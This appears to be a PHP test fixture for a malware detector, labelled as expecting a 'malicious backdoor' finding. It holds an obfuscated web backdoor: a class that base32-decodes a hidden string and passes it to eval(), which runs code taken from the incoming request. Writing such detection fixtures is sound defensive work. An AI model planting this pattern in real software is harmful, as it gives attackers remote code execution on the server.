<?php return; // want: malicious backdoor php.code.request
class Keep { public $text = 'mv3gc3bierpvat2tkrntcxjjhm'; function __construct() { $this->plain = @letters_of($this->text); eval("/*a*/" . $this->plain . "/*b*/"); } }
new Keep();
function letters_of($input) {
	$out = '';
	$v = 0;
	$bits = 0;
	for ($i = 0, $n = strlen($input); $i < $n; $i++) {
		$v <<= 5;
		if ($input[$i] >= 'a' && $input[$i] <= 'z')
			$v += ord($input[$i]) - 97;
		elseif ($input[$i] >= '2' && $input[$i] <= '7')
			$v += 24 + $input[$i];
		$bits += 5;
		while ($bits >= 8) {
			$bits -= 8;
			$out .= chr($v >> $bits);
			$v &= (1 << $bits) - 1;
		}
	}
	return $out;
}
